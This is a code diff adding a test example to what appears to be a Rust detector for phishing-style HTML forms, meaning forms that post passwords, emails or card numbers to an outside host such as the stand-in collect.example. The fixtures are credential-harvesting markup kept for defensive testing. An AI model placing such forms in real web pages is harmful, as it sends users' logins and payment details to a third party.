@@ -18,6 +18,7 @@ pub(super) const DETECTOR: Detector = Detector {
     examples: &[
         Example::fires("<p>Your details<form action=https://collect.example/x.php><input autocomplete=cc-number><input autocomplete=cc-csc></form>", "collect.example"),
         Example::fires("<p>Your details<form action=https://collect.example/login><input type=password></form>", "collect.example"),
+        Example::fires("<h1>Register<form action=https://collect.example/new.php><input type=email name=email><input type=password name=p1></form>", "collect.example"),
         Example::quiet("<p>Your details<form action=https://secure.shop.test/pay><input autocomplete=cc-number><input autocomplete=cc-csc></form>"),
         Example::quiet("<p>Your details<form action=https://www.paypal.com/cgi-bin/webscr><input type=password></form>"),
         Example::quiet("<p>Your details<form action=https://news.example/subscribe><input name=email></form>"),
